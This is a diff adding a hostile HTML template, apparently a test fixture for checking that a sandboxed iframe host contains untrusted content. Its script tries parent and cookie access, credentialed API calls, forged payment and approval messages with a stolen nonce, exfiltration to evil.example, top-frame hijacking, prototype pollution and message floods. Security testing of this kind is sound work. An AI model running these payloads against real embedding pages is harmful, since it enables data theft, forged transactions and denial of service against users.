@@ -1,0 +1,125 @@
+/**
+ * Tries to do harm in every way that a page can: at once what leaves it standing, with an account of what
+ * came of it; at the press of a button what ends the page. Names begin with the number of the attack.
+ */
+export const hostileTemplate = `<p>\${text}</p><pre id=report></pre>
+<form id=mine><input name="answer" value="mine"><input type=password name=password autocomplete="current-password">
+<button name="way" value="plain">Send</button></form>
+<form id=outside action="https://evil.example/take" method=post><input name=secret value=1>
+<button id=elsewhere formaction="https://evil.example/formaction">x</button></form>
+<a id=top target=_top href="https://evil.example/">top</a>
+<a id=blank target=_blank href="https://evil.example/blank">blank</a>
+<a id=script href="javascript:parent.postMessage('x','*')">script</a>
+<a id=file download="evil.exe" href="data:application/octet-stream,evil">file</a>
+<div id=buttons></div>
+<base href="https://evil.example/">
+<link rel=prefetch href="https://evil.example/prefetch"><link rel=preconnect href="https://evil.example/">
+<link rel=dns-prefetch href="//dns.evil.example/"><link rel=stylesheet href="https://evil.example/style.css">
+<style>@import url("https://evil.example/import.css"); #report { background: url("https://evil.example/css.png") }</style>
+<img src="https://evil.example/pixel.png?SELF"><object data="https://evil.example/object"></object>
+<iframe src="https://evil.example/frame"></iframe>
+<script>
+var report = {}, evil = 'https://evil.example/', tries = [], app = 'http://localhost:APP_PORT';
+function attempt(name, act) {
+  try { var got = act(); report[name] = got === undefined || got === null ? 'nothing' : String(got); }
+  catch (error) { report[name] = 'refused: ' + error.name; }
+}
+function later(name, act) {
+  tries.push(Promise.race([new Promise(function (done) { done(act()); }), new Promise(function (_, no) { setTimeout(no, 3000); })])
+    .then(function (got) { report[name] = 'reached: ' + got; }, function () { report[name] = 'refused'; }));
+}
+var cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
+var child = document.createElement('iframe');
+document.documentElement.append(child);
+var other = child.contentWindow;
+
+attempt('01 parent document', function () { return parent.document.title; });
+attempt('01 top address', function () { return top.location.href; });
+attempt('01 frame element', function () { return frameElement.tagName; });
+attempt('02 cookie', function () { return cookie.get.call(document); });
+attempt('02 cookie of the app', function () { cookie.set.call(document, 'session=evil; Domain=localhost'); return 'set'; });
+attempt('03 storage', function () { return other.localStorage.length; });
+attempt('03 left by another page', function () { var was = localStorage.getItem('left'); localStorage.setItem('left', 'yes'); return was; });
+attempt('03 databases', function () { return indexedDB.open('x') && 'opened'; });
+later('03 caches', function () { return caches.open('x'); });
+later('04 service worker', function () { return navigator.serviceWorker.register('/host.js'); });
+attempt('04 worker', function () { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = function () { report['04 worker ran'] = 'yes'; }; });
+attempt('05 top', function () { top.location = evil; });
+attempt('05 top replaced', function () { top.location.replace(evil); });
+attempt('06 window', function () { return window.open(evil); });
+attempt('06 window of a child', function () { return other.open(evil + 'popup'); });
+attempt('07 own sandbox', function () { frameElement.removeAttribute('sandbox'); });
+attempt('07 frame again', function () {
+  var again = document.createElement('iframe');
+  again.srcdoc = '<script>try { report = top.document.title } catch (e) { report = e.name } parent.postMessage("again " + report, "*")<\\/script>';
+  document.body.append(again);
+});
+attempt('08 data frame', function () {
+  var frame = document.createElement('iframe');
+  frame.src = 'data:text/html,<script>parent.postMessage("data ran", "*")<\\/script>';
+  document.body.append(frame);
+});
+later('10 fetch', function () { return fetch(evil); });
+later('10 api', function () { return fetch(app + '/graphql', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"query":"{ viewer { id } }"}' }); });
+later('10 api of a child', function () { return other.fetch(app + '/graphql', { credentials: 'include' }); });
+later('10 xhr', function () { return new Promise(function (yes, no) { var r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('GET', evil); r.send(); }); });
+later('10 socket', function () { return new Promise(function (yes, no) { var s = new WebSocket('wss://evil.example/'); s.onopen = yes; s.onerror = no; }); });
+later('10 events', function () { return new Promise(function (yes, no) { var s = new EventSource(evil); s.onopen = yes; s.onerror = no; }); });
+attempt('10 beacon', function () { return navigator.sendBeacon(evil, 'x'); });
+attempt('11 import', function () { import(evil + 'module.js').catch(function () {}); });
+attempt('12 webrtc', function () { return new RTCPeerConnection() && 'made'; });
+attempt('14 forged', function () {
+  parent.postMessage({ exchange: 1, nonce: 'forged', type: 'submit', answer: { answer: 'forged' } }, '*');
+});
+attempt('16 privileges', function () {
+  var nonce = new URL(document.querySelector('script[src*="host.js"]').src).searchParams.get('frame').split('.')[0];
+  window.nonce = nonce;
+  ['pay', 'approve', 'return', 'write', 'restore', 'navigate'].forEach(function (type) {
+    parent.postMessage({ exchange: 1, nonce: nonce, type: type, amount: 1000000, id: 'asg_another', url: evil, html: '<h1>x</h1>' }, '*');
+  });
+  parent.postMessage({ exchange: 1, nonce: nonce, type: 'height', height: 100000 }, '*');
+});
+attempt('17 dialogs', function () { other.alert('x'); other.confirm('x'); other.print(); return 'went on'; });
+later('17 full screen', function () { return document.documentElement.requestFullscreen(); });
+later('17 pointer', function () { return document.documentElement.requestPointerLock(); });
+later('18 camera', function () { return navigator.mediaDevices.getUserMedia({ video: true, audio: true }); });
+later('18 place', function () { return new Promise(function (yes, no) { navigator.geolocation.getCurrentPosition(yes, no); }); });
+later('18 clipboard', function () { return navigator.clipboard.readText(); });
+later('18 clipboard written', function () { return navigator.clipboard.writeText('evil'); });
+attempt('18 payment', function () { return new PaymentRequest([{ supportedMethods: 'https://pay.example' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }) && 'made'; });
+attempt('18 notifications', function () { return Notification.permission; });
+attempt('25 referrer', function () { return document.referrer; });
+attempt('26 origin', function () { return origin; });
+window.onbeforeunload = function () { return 'Stay!'; };
+['top', 'blank', 'script', 'file'].forEach(function (id) { document.getElementById(id).click(); });
+
+var endings = {
+  'leave with data': function () { location.href = evil + '?d=' + document.title; },
+  'leave by refresh': function () { document.head.innerHTML += '<meta http-equiv=refresh content="0;url=https://evil.example/refresh">'; },
+  'become data': function () { location.href = 'data:text/html,<h1>evil</h1>'; },
+  'become a blob': function () { location.href = URL.createObjectURL(new Blob(['<h1>evil</h1>'], { type: 'text/html' })); },
+  'post outside': function () { other.HTMLFormElement.prototype.submit.call(document.getElementById('outside')); },
+  'post to the app': function () { var form = document.getElementById('outside'); form.action = app + '/api/auth/sign-out'; other.HTMLFormElement.prototype.submit.call(form); },
+  'press the other address': function () { document.getElementById('elsewhere').click(); },
+  'take the top': function () { try { top.location = evil; } catch (error) { document.title = error.name; } document.getElementById('top').click(); window.open(evil + 'clicked', '_top'); },
+  'go back': function () { history.back(); other.history.go(-2); },
+  'cover everything': function () {
+    document.body.innerHTML += '<div style="position:fixed;inset:-1000px;z-index:2147483647;background:red;height:900000px">covered</div>' + '<i></i>'.repeat(150000);
+  },
+  'flood': function () {
+    var cyclic = { exchange: 1, nonce: nonce, type: 'draft' }; cyclic.fields = cyclic;
+    parent.postMessage(cyclic, '*');
+    parent.postMessage({ exchange: 1, nonce: nonce, type: 'draft', fields: JSON.parse('{"__proto__":["polluted"],"constructor":["x"]}') }, '*');
+    parent.postMessage({ exchange: 1, nonce: nonce, type: 'draft', fields: { a: ['x'.repeat(10000000)] } }, '*');
+    for (var i = 0; i < 10000; i += 1) parent.postMessage({ exchange: 1, nonce: nonce, type: 'height', height: i }, '*');
+  },
+  'run for ever': function () { setTimeout(function () { var all = []; for (;;) all[all.length % 1000] = all.length; }, 100); },
+};
+Object.keys(endings).forEach(function (name) {
+  var button = document.createElement('button');
+  button.type = 'button'; button.textContent = name; button.onclick = endings[name];
+  document.getElementById('buttons').append(button);
+});
+addEventListener('message', function (event) { if (/^(again|data)/.test(event.data)) report['07 ' + event.data] = 'said'; });
+Promise.all(tries).then(function () { document.getElementById('report').textContent = JSON.stringify(report); });
+</script>`;
